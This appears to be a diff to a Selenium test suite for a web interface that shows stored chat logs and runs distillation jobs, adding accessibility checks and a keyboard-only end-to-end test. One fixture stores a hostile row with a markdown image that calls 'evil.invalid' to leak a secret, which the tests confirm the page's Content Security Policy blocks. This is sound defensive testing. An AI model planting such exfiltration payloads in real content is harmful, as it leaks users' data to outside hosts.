@@ -51,8 +51,13 @@ def made_up():
     thread.join()
 
 
-def test_no_page_scrolls_sideways_on_a_phone_or_loads_from_elsewhere(browser, made_up):
+FIRST = ("logs", "completion", "distil", "job")
+
+
+@pytest.mark.parametrize("language", ["en", pytest.param("ko", marks=pytest.mark.slow)])
+def test_no_page_scrolls_sideways_on_a_phone_or_loads_from_elsewhere(browser, made_up, language):
     root, paths = made_up
+    paths = [path for path in paths if path.startswith(f"/{language}/")]
     browser.requests()
     for path in paths:
         browser.open(root + path, width=PHONE)
@@ -60,21 +65,30 @@ def test_no_page_scrolls_sideways_on_a_phone_or_loads_from_elsewhere(browser, ma
         assert browser.run("return typeof window.pwned") == "undefined"
     asked = browser.requests()
     assert len(asked) > len(paths)
-    assert not [address for address in asked if not address.startswith((root, "data:image/png;base64,"))]
+    assert not [address for address in asked if not address.startswith((root, "data:"))]
 
 
 @pytest.mark.skipif(not AXE.is_file(), reason="needs axe-core: npm install --prefix build/npm axe-core")
-@pytest.mark.parametrize(("width", "scheme"), [(DESK, "light"), (PHONE, "dark")])
-def test_axe_finds_nothing(browser, made_up, width, scheme):
+def test_axe_finds_nothing_on_the_main_pages(browser, made_up):
+    root, _ = made_up
+    assert not complaints(browser, root, [f"/en/{name}" for name in FIRST], DESK, "light")
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(not AXE.is_file(), reason="needs axe-core: npm install --prefix build/npm axe-core")
+@pytest.mark.parametrize(("width", "scheme"), [(DESK, "light"), (DESK, "dark"), (PHONE, "light"), (PHONE, "dark")])
+def test_axe_finds_nothing_anywhere(browser, made_up, width, scheme):
     root, paths = made_up
-    language = "en" if scheme == "light" else "ko"
+    language = "/en/" if scheme == "light" else "/ko/"
+    assert not complaints(browser, root, [path for path in paths if path.startswith(language)], width, scheme)
+
+
+def complaints(browser, root, paths, width, scheme):
     found = {}
     for path in paths:
-        if path.startswith(f"/{language}/"):
-            browser.open(root + path, width=width, scheme=scheme)
-            if complaints := browser.complaints():
-                found[path] = complaints
-    assert not found
+        browser.open(root + path, width=width, scheme=scheme)
+        found[path] = browser.complaints()
+    return {path: said for path, said in found.items() if said}
 
 
 def test_the_sentences_of_hostile_rows_stay_sentences(browser, made_up):
@@ -89,3 +103,60 @@ def test_the_sentences_of_hostile_rows_stay_sentences(browser, made_up):
     refused = [entry["message"] for entry in browser.driver.get_log("browser")]
     assert browser.run("return typeof window.pwned") == "undefined"
     assert any("evil.invalid" in message and "Content Security Policy" in message for message in refused), refused
+
+
+@pytest.fixture
+def stored(server, client):
+    """Thirty rows of a closed set, and a hostile one on top."""
+    for i in range(30):
+        text = f"{'red' if i % 2 else 'dull'} thing {i}"
+        client.chat.completions.create(
+            model="big", messages=[{"role": "user", "content": text}], store=True, metadata={"task": "colour"}
+        )
+    words = [{"role": "user", "content": f"red {' '.join(HOSTILE[:2])} ![](http://evil.invalid/?q=secret)"}]
+    client.chat.completions.create(model="big", messages=words, store=True, metadata={"task": HOSTILE[0]})
+    return server
+
+
+def test_from_the_door_to_a_running_distillation_by_keyboard(browser, stored):
+    keys = pytest.importorskip("selenium.webdriver").Keys
+    root = stored.base_url.removesuffix("/v1")
+    browser.requests()
+    browser.open(root + "/logs")
+    assert browser.focused() == "key"
+    browser.press(stored.api_key, keys.ENTER)
+    browser.wait_for("table")
+    assert browser.driver.current_url == root + "/logs"
+
+    # Past the bar to the content, then to the newest row, which is hostile.
+    browser.press(keys.TAB)
+    assert browser.focused() == "Skip to content"
+    browser.press(keys.ENTER, keys.TAB)
+    assert browser.focused() == "Evaluate"
+    browser.run("document.querySelector('tbody a').focus()")
+    assert browser.run("return getComputedStyle(document.activeElement).outlineStyle") == "solid"
+    browser.press(keys.ENTER)
+    browser.wait_for(".turn.assistant")
+    assert HOSTILE[0] in browser.one("main").text
+    browser.driver.back()
+
+    browser.wait_for("#metadata")
+    browser.one("#metadata").send_keys("task=colour", keys.ENTER)
+    browser.wait_for("a.main[href='/distil?metadata=task%3Dcolour']").send_keys(keys.ENTER)
+    browser.wait_for("#suffix").send_keys("colours", keys.ENTER)
+    browser.wait_for("#live[data-live]")
+    job = browser.driver.current_url
+    assert "/jobs/ftjob-" in job
+    browser.run("window.confirm = () => true")
+    browser.one("#do-cancel").send_keys(keys.ENTER)
+    browser.wait_for("#live:not([data-live])")
+    assert "cancelled" in browser.one("#live").text and browser.driver.current_url == job
+
+    assert not [address for address in browser.requests() if not address.startswith((root, "data:"))]
+    assert browser.run("return typeof window.pwned") == "undefined"
+    browser.one("button[value=ko]").click()
+    assert browser.wait_for("html[lang=ko]") and "취소됨" in browser.one("#live").text
+    browser.all(".tools button")[-1].click()
+    browser.wait_for("#key")
+    browser.open(job)
+    assert browser.all("#key") and not browser.all("#live")
